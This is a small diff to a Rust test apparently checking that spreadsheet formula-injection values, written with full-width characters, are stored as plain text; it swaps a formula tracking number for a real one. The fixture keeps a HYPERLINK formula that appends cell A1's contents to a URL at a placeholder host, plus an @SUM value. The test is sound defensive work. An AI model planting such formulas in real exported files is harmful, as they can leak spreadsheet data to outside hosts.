@@ -946,7 +946,9 @@ fn full_width_formula_starts_from_a_medium_are_text_in_the_register() {
         &[
             ("Source-Organization", "＝HYPERLINK(\"http://x/?\"&A1)"),
             ("Destination", "＠SUM(1)"),
-            ("Tracking-Number", "－2＋3"),
+            // A formula as the tracking number is no longer VALID at all (seal never
+            // writes one: redteam19.rs f3), so a real number here.
+            ("Tracking-Number", "13112383852"),
         ],
         &k,
     );
